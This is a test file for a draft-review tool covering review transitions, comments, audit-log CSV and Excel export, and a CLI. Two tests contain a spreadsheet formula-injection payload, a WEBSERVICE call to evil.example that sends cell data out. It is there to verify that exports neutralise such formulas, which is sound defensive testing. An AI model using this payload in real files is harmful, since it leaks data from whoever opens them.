import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { invoke } from '../main/dispatch';
import { AUDIT_COLUMNS } from '../main/review/audit';
import { auditTarget } from '../shared/audit-target';
import { parseCsv, toCsv } from '../shared/csv';
import { cli, makeServices, storeSnapshot, tempDir } from './helpers';
import { answer, save } from './merge-helpers';
import { emptyNote } from '../shared/note';
import { textToDoc } from '../shared/plaintext';
import { unpack } from './bundle-tools';
import { officeConvertAll } from './office';

async function draft() {
  const s = makeServices();
  await invoke(s.handlers, 'setIdentity', { name: 'Amina', organisation: 'Ministry of Foreign Affairs' });
  const id = (await invoke(s.handlers, 'createDraft', { title: 'Morocco — national review' })).id;
  // one person submits and approves here; the rule against that is tested in review-safeguards.test.ts
  await invoke(s.handlers, 'setReviewRules', { approverNotSubmitter: false });
  return { s, id };
}

describe('review workflow', () => {
  it('goes in progress -> submitted -> returned -> submitted -> approved, recording who, when and why', async () => {
    const { s, id } = await draft();
    const step = (action: 'submit' | 'return' | 'approve', comment?: string) => invoke(s.handlers, 'reviewTransition', { draftId: id, action, comment });
    expect(await step('submit', 'Ready for the ministry')).toEqual({ status: 'submitted', version: 1 });
    expect(await step('return', 'Please complete section II')).toEqual({ status: 'returned', version: 1 });
    expect(await step('submit')).toEqual({ status: 'submitted', version: 1 });
    expect(await step('approve', 'Validated by the committee')).toEqual({ status: 'approved', version: 1 });
    const h = await invoke(s.handlers, 'reviewHistory', { draftId: id });
    expect(h.map((x) => [x.action, x.fromStatus, x.toStatus, x.comment])).toEqual([
      ['submit', 'in_progress', 'submitted', 'Ready for the ministry'],
      ['return', 'submitted', 'returned', 'Please complete section II'],
      ['submit', 'returned', 'submitted', null],
      ['approve', 'submitted', 'approved', 'Validated by the committee'],
    ]);
    expect(h[0]!.actorName).toBe('Amina');
    expect((await invoke(s.handlers, 'getDraft', { draftId: id })).status).toBe('approved');
  });

  it('refuses invalid transitions with a clear message and nothing changed', async () => {
    const { s, id } = await draft();
    const before = storeSnapshot(s);
    await expect(invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'approve' })).rejects.toThrow(/cannot approve a draft that is in progress; approve is possible only when it is submitted for review/);
    await expect(invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'return' })).rejects.toThrow(/cannot return a draft that is in progress/);
    await expect(invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'finish' })).rejects.toThrow(/action/);
    expect(storeSnapshot(s)).toBe(before);
    await invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'submit' });
    await expect(invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'submit' })).rejects.toThrow(/cannot submit a draft that is submitted for review/);
    await invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'approve' });
    await expect(invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'return' })).rejects.toThrow(/cannot return a draft that is approved \(final\)/);
  });

  it('editing a final draft opens version 2 and keeps the approved version 1 intact', async () => {
    const { s, id } = await draft();
    const v1rev = await save(s, id, 'I.a', answer('Coordination is chaired by the MFA.'));
    await save(s, id, 'III.a/objective/5', { kind: 'objective', status: 'achieved', note: emptyNote() });
    await invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'submit' });
    await invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'approve' });
    await save(s, id, 'I.a', answer('Coordination is chaired by the Head of Government.'));
    const d = await invoke(s.handlers, 'getDraft', { draftId: id });
    expect(d.status).toBe('in_progress');
    expect(d.fields['I.a']!.text).toBe('Coordination is chaired by the Head of Government.');
    const versions = await invoke(s.handlers, 'listDraftVersions', { draftId: id });
    expect(versions).toEqual([expect.objectContaining({ version: 1, status: 'approved', fieldCount: 2, approvedByName: 'Amina' })]);
    const v1 = await invoke(s.handlers, 'getDraftVersion', { draftId: id, version: 1 });
    expect(v1.fields['I.a']).toMatchObject({ revisionId: v1rev, text: 'Coordination is chaired by the MFA.' });
    expect(v1.fields['III.a/objective/5']!.value).toEqual({ kind: 'objective', status: 'achieved', note: emptyNote() });
    expect((await invoke(s.handlers, 'reviewHistory', { draftId: id })).at(-1)).toMatchObject({ action: 'reopen', version: 2, fromStatus: 'approved', toStatus: 'in_progress' });
    // a second save does not open a third version; approving again freezes version 2
    await save(s, id, 'I.b', answer('DAG.'));
    await invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'submit' });
    expect(await invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'approve' })).toEqual({ status: 'approved', version: 2 });
    expect((await invoke(s.handlers, 'getDraftVersion', { draftId: id, version: 1 })).fields['I.a']!.text).toBe('Coordination is chaired by the MFA.');
    expect((await invoke(s.handlers, 'getDraftVersion', { draftId: id, version: 2 })).fields['I.a']!.text).toBe('Coordination is chaired by the Head of Government.');
    await expect(invoke(s.handlers, 'getDraftVersion', { draftId: id, version: 3 })).rejects.toThrow(/no approved version 3/);
  });
});

describe('comments', () => {
  it('are threaded per question, resolvable per thread, and a reply reopens a resolved thread', async () => {
    const { s, id } = await draft();
    const a = await invoke(s.handlers, 'addComment', { draftId: id, field: 'I.a', body: 'Name the chair.' });
    const b = await invoke(s.handlers, 'addComment', { draftId: id, field: 'I.a', body: 'It is the MFA.', replyTo: a.id });
    const c = await invoke(s.handlers, 'addComment', { draftId: id, field: 'I.a', body: 'Since when?', replyTo: b.id });
    const other = await invoke(s.handlers, 'addComment', { draftId: id, field: 'II.c', body: 'Add 2019 figures.' });
    await expect(invoke(s.handlers, 'addComment', { draftId: id, field: 'II.c', body: 'x', replyTo: a.id })).rejects.toThrow(/another draft or question/);
    await expect(invoke(s.handlers, 'addComment', { draftId: id, field: 'IX.z', body: 'x' })).rejects.toThrow();
    const all = await invoke(s.handlers, 'listComments', { draftId: id });
    expect(all.map((x) => [x.id, x.depth, x.threadId])).toEqual([
      [a.id, 0, a.id],
      [b.id, 1, a.id],
      [c.id, 2, a.id],
      [other.id, 0, other.id],
    ]);
    const resolved = await invoke(s.handlers, 'resolveComment', { commentId: c.id });
    expect(resolved.map((x) => x.id)).toEqual([a.id, b.id, c.id]);
    expect(resolved.every((x) => x.resolvedBy === 'Amina')).toBe(true);
    expect((await invoke(s.handlers, 'listComments', { draftId: id })).map((x) => x.id)).toEqual([other.id]);
    expect((await invoke(s.handlers, 'listComments', { draftId: id, field: 'I.a', includeResolved: true })).length).toBe(3);
    await expect(invoke(s.handlers, 'resolveComment', { commentId: a.id })).rejects.toThrow(/already resolved/);
    await invoke(s.handlers, 'addComment', { draftId: id, field: 'I.a', body: 'Reopening: the date is missing.', replyTo: a.id });
    expect((await invoke(s.handlers, 'listComments', { draftId: id, field: 'I.a' })).length).toBe(4);
    expect((await invoke(s.handlers, 'dashboard', { draftId: id })).openComments).toBe(2);
  });
});

describe('audit log', () => {
  it('exports who, when, what, old, new and why as CSV that parses back, with renames and edits', async () => {
    const { s, id } = await draft();
    const db = s.store.file;
    await invoke(s.handlers, 'renameDraft', { draftId: id, title: 'Maroc — examen national, "v2"' });
    await save(s, id, 'I.a', answer('First, with a comma.'));
    await save(s, id, 'I.a', answer('Second line\n\n- item one\n- item two'));
    await invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'submit', comment: 'pour validation' });
    s.close();
    const out = path.join(tempDir(), 'audit.csv');
    const r = await cli(db, 'audit', id, '--csv', out);
    expect(r).toMatchObject({ code: 0, err: '' });
    // UTF-8 with its byte order mark: Excel reads a CSV as UTF-8 only with it (else French
    // accents and Arabic names come out as "Ã©" and question marks in the system's code page)
    const bytes = fs.readFileSync(out);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString('utf8'));
    expect(rows[0]).toEqual([...AUDIT_COLUMNS]);
    expect(rows.slice(1).every((x) => x.length === AUDIT_COLUMNS.length)).toBe(true);
    const col = (row: string[], name: (typeof AUDIT_COLUMNS)[number]) => row[AUDIT_COLUMNS.indexOf(name)];
    const rename = rows.find((x) => col(x, 'action') === 'draft.rename')!;
    expect([col(rename, 'old'), col(rename, 'new'), col(rename, 'who')]).toEqual(['Morocco — national review', 'Maroc — examen national, "v2"', 'Amina']);
    const edits = rows.filter((x) => col(x, 'action') === 'field.edit');
    // two saves in a row by one author are one editing session: one row, both revision ids
    expect(edits.map((x) => [col(x, 'target'), col(x, 'old'), col(x, 'new')])).toEqual([['I.a', '', 'Second line\n\n- item one\n- item two']]);
    expect(col(edits[0]!, 'revisions')!.split(' ')).toHaveLength(2);
    const submit = rows.find((x) => col(x, 'action') === 'review.submit')!;
    expect(col(submit, 'why')).toBe('pour validation');
    const times = rows.slice(1).map((x) => col(x, 'when')!);
    expect(times).toEqual([...times].sort()); // oldest first
    // the same as an Excel workbook, headers in the language asked for; a language it does not have is refused by name
    const book = path.join(tempDir(), 'audit.xlsx');
    expect(await cli(db, 'audit', id, '--xlsx', book, '--language', 'ar')).toMatchObject({ code: 0, out: `${rows.length - 1} entries written to ${book}` });
    expect((await unpack(book)).find((i) => i.name === 'xl/sharedStrings.xml')!.data.toString('utf8')).toContain('<t>قبل</t>');
    expect((await cli(db, 'audit', id, '--xlsx', path.join(tempDir(), 'x.xlsx'), '--language', 'de')).err).toMatch(/^error: .*language: Invalid option/);
    // both at once: both written (was: the workbook alone, the CSV silently not)
    const both = tempDir();
    expect((await cli(db, 'audit', id, '--csv', path.join(both, 'a.csv'), '--xlsx', path.join(both, 'a.xlsx'))).code).toBe(0);
    expect(fs.readdirSync(both).sort()).toEqual(['a.csv', 'a.xlsx']);
    // an existing file is not overwritten
    const again = await cli(db, 'audit', id, '--csv', out);
    expect(again.code).toBe(1);
    expect(again.err).toMatch(/^error: .*already exists/);
  });
  it('never hands a spreadsheet a formula: a cell starting with = + - @ (a minus with a space after it too), a tab or CR gets an apostrophe', async () => {
    // Excel reads "- X" as the formula =-X (spaces may follow an operator), so an answer that is a
    // bulleted list whose first item is WEBSERVICE(...) sent the sheet's cells to a server when the
    // CSV was opened (was: only a minus followed by a non-space was neutralised)
    const { s, id } = await draft();
    const hostile = '- WEBSERVICE("https://evil.example/?"&A2)';
    await save(s, id, 'I.a', answer(hostile));
    const rows = parseCsv((await invoke(s.handlers, 'auditCsv', { draftId: id })).csv);
    const edit = rows.find((r) => r[AUDIT_COLUMNS.indexOf('action')] === 'field.edit')!;
    expect(edit[AUDIT_COLUMNS.indexOf('new')]).toBe(`'${hostile}`);
    const cells = ['=1+1', '+1', '-1', '- 1', '-\t1', '@SUM(A1)', '\t=1', '\r=1'];
    expect(parseCsv(toCsv([cells]))[0]).toEqual(cells.map((c) => `'${c}`));
    // text that is no formula stays as it is
    const plain = ['Second line', 'مرحبا', '', ' =not at the start', 'a-b'];
    expect(parseCsv(toCsv([plain]))[0]).toEqual(plain);
  });
});

describe('what an audit entry is about', () => {
  it('names a contribution, a participant, a workshop and a named version by their words (a name only with consent); a review step by its version; the CSV keeps the ids', async () => {
    const { s, id } = await draft();
    const w = await invoke(s.handlers, 'createWorkshop', { title: 'Consultation de Souss-Massa', date: '2021-03-02', place: 'Agadir', authority: 'Wilaya', draftId: id });
    const named = await invoke(s.handlers, 'addParticipant', { workshopId: w.id, name: 'فاطمة العمراني', organisation: 'Association Tamkine', kind: 'migrant_association', consentToName: true });
    const c = await invoke(s.handlers, 'addContribution', { workshopId: w.id, targets: ['II.a', 'III.a/objective/7'], content: textToDoc('Un guichet unique.'), participantId: named.id });
    const other = await invoke(s.handlers, 'addContribution', { workshopId: w.id, targets: ['II.b'], content: textToDoc('Des cours.'), organisation: 'Conseil régional' });
    await invoke(s.handlers, 'updateContribution', { contributionId: c.id, content: textToDoc('Un guichet unique, à Agadir.') });
    await invoke(s.handlers, 'acceptContribution', { contributionId: c.id, draftId: id });
    await invoke(s.handlers, 'deleteContribution', { contributionId: other.id });
    const v = await invoke(s.handlers, 'createVersion', { draftId: id, label: 'Avant l’atelier' });
    await invoke(s.handlers, 'reviewTransition', { draftId: id, action: 'submit' });

    const about = async () => Object.fromEntries((await invoke(s.handlers, 'auditLog', { draftId: id })).map((e) => [e.action, [e.target, e.subject]]));
    const before = await about();
    expect(before['workshop.create']).toEqual([w.id, 'Consultation de Souss-Massa']);
    expect(before['participant.add']).toEqual([`workshop ${w.id}`, 'Consultation de Souss-Massa']);
    expect(before['contribution.edit']).toEqual([`contribution ${c.id}`, 'فاطمة العمراني (Association Tamkine)']);
    expect(before['contribution.delete']).toEqual([`contribution ${other.id}`, 'Conseil régional']);
    expect(before['contribution.accept']).toEqual(['II.a, III.a/objective/7', undefined]);
    expect(before['version.create']).toEqual([v.id, 'Avant l’atelier']);
    expect(before['review.submit']).toEqual(['version 1', undefined]);
    // consent withdrawn: the name is no longer shown, in the audit either, for entries made before
    await invoke(s.handlers, 'updateParticipant', { participantId: named.id, consentToName: false });
    const after = await about();
    expect(after['contribution.edit']![1]).toBe('Association Tamkine');
    expect(after['participant.consent-withdrawn']).toEqual([`participant ${named.id} (workshop ${w.id})`, 'Association Tamkine']);

    // the CSV keeps its machine-readable columns and the targets as stored
    const rows = parseCsv((await invoke(s.handlers, 'auditCsv', { draftId: id })).csv.replace(/^\uFEFF/, ''));
    expect(rows[0]).toEqual(['when', 'who', 'organisation', 'installation', 'action', 'target', 'old', 'new', 'why', 'until', 'revisions']);
    const target = (action: string) => rows.find((r) => r[4] === action)![5];
    expect([target('review.submit'), target('contribution.edit'), target('workshop.create')]).toEqual(['version 1', `contribution ${c.id}`, w.id]);
  });

  it('reads the stored target as what it names', () => {
    expect(auditTarget('contribution.accept', 'II.a, III.a/objective/7')).toEqual({ kind: 'fields', fields: ['II.a', 'III.a/objective/7'] });
    expect(auditTarget('review.approve', 'version 3')).toEqual({ kind: 'version', version: 3 });
    expect(auditTarget('participant.edit', 'participant p1 (workshop w1)')).toEqual({ kind: 'participant', id: 'p1' });
    expect(auditTarget('draft.merge', 'bundle b1')).toEqual({ kind: 'bundle', id: 'b1' });
    expect(auditTarget('bundle.export', 'b1')).toEqual({ kind: 'bundle', id: 'b1' });
    expect(auditTarget('bundle.import.signer-confirmed', 'sha256:ab12')).toEqual({ kind: 'other', text: 'sha256:ab12' });
    expect(auditTarget('draft.rename', '')).toEqual({ kind: 'none' });
  });
});

describe('CLI', () => {
  it('runs a workshop end to end: capture, list, accept, dismiss, dashboard, review, comments, conflicts', async () => {
    const db = path.join(tempDir(), 'c.sqlite');
    const ok = async (...args: string[]) => {
      const r = await cli(db, ...args);
      expect(r.err).toBe('');
      expect(r.code).toBe(0);
      return r.out.trim();
    };
    await ok('identity', 'init', '--name', 'Amina', '--organisation', 'MFA');
    const d = await ok('draft', 'create', '--title', 'Morocco');
    const w = await ok('workshop', 'create', '--title', 'Consultation', '--date', '2020-09-15', '--place', 'Oujda', '--authority', 'Wilaya', '--draft', d);
    const p = await ok('participant', 'add', w, '--name', 'Fatima', '--organisation', 'Association', '--kind', 'civil_society', '--consent');
    const c1 = await ok('contribution', 'add', w, '--question', 'I.e,III.a/objective/7', '--text', 'Associations took part.', '--participant', p);
    const c2 = await ok('contribution', 'add', w, '--question', 'I.e', '--text', 'Unions asked for time.', '--organisation', 'UMT');
    const listed = JSON.parse(await ok('contribution', 'list', d, 'I.e', '--json'));
    expect(listed.map((c: { id: string }) => c.id)).toEqual([c1, c2]);
    expect(JSON.parse(await ok('workshop', 'list', '--json'))[0]).toMatchObject({ id: w, participants: 1, contributions: 2 });
    expect(await ok('contribution', 'accept', c1.slice(0, 36), '--draft', d, '--question', 'I.e')).toMatch(/^I\.e\t/);
    await ok('contribution', 'dismiss', c2, '--reason', 'duplicate');
    expect(await ok('answer', 'get', d, 'I.e')).toBe('Associations took part.');
    const dash = JSON.parse(await ok('dashboard', d, '--json'));
    expect(dash.questions.find((q: { field: string }) => q.field === 'I.e')).toMatchObject({ pending: 0, accepted: 1, dismissed: 1 });
    await ok('review', 'submit', d, '--comment', 'ready');
    const bad = await cli(db, 'review', 'submit', d);
    expect(bad.code).toBe(1);
    expect(bad.err.split('\n')).toHaveLength(1);
    expect(bad.err).toMatch(/^error: cannot submit a draft that is submitted for review/);
    const cm = await ok('comment', 'add', d, 'I.e', '--text', 'Name the associations');
    await ok('comment', 'add', d, 'I.e', '--text', 'Done', '--reply-to', cm);
    expect((await ok('comment', 'list', d)).split('\n')).toHaveLength(2);
    expect(await ok('comment', 'resolve', cm)).toBe('resolved 2 comments');
    expect(JSON.parse(await ok('conflicts', 'list', d, '--json'))).toEqual([]);
    const exported = await cli(db, 'bundle', 'export-workshop', w, '--out', path.join(tempDir(), 'w.gcmr'));
    expect(exported.code).toBe(0);
    expect(exported.out).toMatch(/w\.gcmr\t[0-9a-f-]{36}\t\d+ contributions$/);
    const missing = await cli(db, 'contribution', 'add', w, '--question', 'I.e');
    expect(missing).toMatchObject({ code: 1, err: 'error: give exactly one of --text or --file' });
  });

  it('the audit trail as an Excel workbook: every cell text (no formula), headers in the language, right to left in Arabic, a cell cut at Excel’s limit; as LibreOffice reads it', { timeout: 180_000 }, async () => {
    const { s, id } = await draft();
    const hostile = '- WEBSERVICE("https://evil.example/?"&A2)';
    await save(s, id, 'I.a', answer(hostile));
    await save(s, id, 'I.b', answer('وزارة الداخلية'));
    await save(s, id, 'I.c', answer('x'.repeat(40_000)));
    const dir = tempDir();
    const files: Record<string, string> = {};
    for (const language of ['ar', 'fr'] as const) {
      const r = await invoke(s.handlers, 'auditWorkbook', { draftId: id, language });
      expect(r.rows).toBe(4); // the draft made, three answers
      files[language] = path.join(dir, `audit-${language}.xlsx`);
      fs.writeFileSync(files[language], Buffer.from(r.base64, 'base64'));
      const sheet = (await unpack(files[language])).find((i) => i.name === 'xl/worksheets/sheet1.xml')!.data.toString('utf8');
      expect(sheet.includes('rightToLeft="1"')).toBe(language === 'ar');
      expect(sheet).not.toMatch(/<f[ >]/); // no formula anywhere
    }
    // what Excel's peer reads: LibreOffice's own CSV of each workbook (UTF-8, comma)
    const [ar, fr] = officeConvertAll([files.ar!, files.fr!], 'csv:Text - txt - csv (StarCalc):44,34,76,1', 170_000).map((f) => parseCsv(fs.readFileSync(f, 'utf8')));
    expect(ar![0]).toEqual(['متى', 'من', 'الجهة', 'التثبيت', 'الإجراء', 'السؤال أو العنصر', 'قبل', 'بعد', 'السبب', 'حتى', 'الإصدارات']);
    expect(fr![0]![6]).toBe('Avant');
    const col = (rows: string[][], field: string, name: (typeof AUDIT_COLUMNS)[number]) => rows.find((r) => r[AUDIT_COLUMNS.indexOf('target')] === field)![AUDIT_COLUMNS.indexOf(name)]!;
    // text as it is, no apostrophe: a cell of text is never run
    expect(col(ar!, 'I.a', 'new')).toBe(hostile);
    expect(ar!.some((r) => r.includes('وزارة الداخلية'))).toBe(true);
    // 40,000 characters: cut at Excel's 32,767, saying so in the language; the CSV keeps the whole
    const long = col(fr!, 'I.c', 'new');
    expect(long).toHaveLength(32_767);
    expect(long.endsWith(' […] (coupé\u00a0: 40\u202f000\u00a0caractères en tout\u202f; le CSV contient le texte entier)')).toBe(true);
    const csvRows = parseCsv((await invoke(s.handlers, 'auditCsv', { draftId: id })).csv);
    expect(col(csvRows, 'I.c', 'new')).toHaveLength(40_000);
  });
});
